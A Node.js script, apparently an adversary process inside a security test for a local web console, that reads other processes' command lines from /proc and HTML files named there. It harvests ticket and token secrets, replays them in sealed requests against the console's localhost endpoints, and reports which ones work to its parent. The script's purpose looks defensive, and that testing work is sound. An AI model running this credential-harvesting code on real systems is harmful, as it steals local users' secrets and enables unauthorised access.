// Another user of this computer, who reads what everybody may: the command lines of all processes, and files that are
// named there. Tries every password of a console at once; tells which command lines it has been through, and at the end
// what was won, and what was read.
import { readdirSync, readFileSync } from "node:fs";

const read = new Set();
const won = [];
const tried = new Set();

function textOf(path) {
  try {
    return readFileSync(path, "utf8");
  } catch {
    return "";
  }
}

/** A request as the console's page seals it. */
async function sealedWith(secret, origin, request) {
  const { subtle } = crypto;
  const bytes = (text) => new TextEncoder().encode(text);
  const raw = await subtle.importKey("raw", bytes(secret), "HKDF", false, ["deriveKey"]);
  const derived = { name: "HKDF", hash: "SHA-256", salt: bytes(""), info: bytes("midcall page") };
  const aes = { name: "AES-GCM", length: 256 };
  const key = await subtle.deriveKey(derived, raw, aes, false, ["encrypt"]);
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const how = { name: "AES-GCM", iv, additionalData: bytes(`${origin} request`) };
  const sealed = await subtle.encrypt(how, key, bytes(JSON.stringify(request)));
  return Buffer.concat([iv, new Uint8Array(sealed)]);
}

async function tryAll(text) {
  for (const [, origin, at] of text.matchAll(/(http:\/\/127(?:\.\d+){3}:\d+)(\/[\w-]*\/?)/g)) {
    for (const [, kind, word] of text.matchAll(/\b(ticket|token)=([\w-]{22,43})/g)) {
      if (tried.has(word)) continue;
      tried.add(word);
      const path = kind === "ticket" ? `${at}api/ticket` : `${at}api/sealed`;
      const body = await sealedWith(word, origin, { method: "GET", path: "/audit" });
      const response = await fetch(`${origin}${path}`, { method: "POST", body });
      if (response.ok) won.push(word);
    }
  }
}

let over = false;
process.once("message", () => (over = true));
process.once("disconnect", () => process.exit());
process.send({ uid: process.getuid() });
while (!over) {
  const through = [];
  for (const pid of readdirSync("/proc")) {
    if (!/^\d+$/.test(pid)) continue;
    const line = textOf(`/proc/${pid}/cmdline`);
    if (read.has(line)) continue;
    read.add(line);
    through.push(line);
    await tryAll(line);
  }
  for (const line of read) {
    // Our own user's processes read each other's files; that is no attack.
    if (process.getuid() === Number(process.env.OWNER)) break;
    for (const [path] of line.matchAll(/\/[^\0\s]*\.html/g)) await tryAll(textOf(path));
  }
  if (through.length > 0) process.send({ through });
  await new Promise((resolve) => setTimeout(resolve, 50));
}
process.send({ won, read: [...read] });
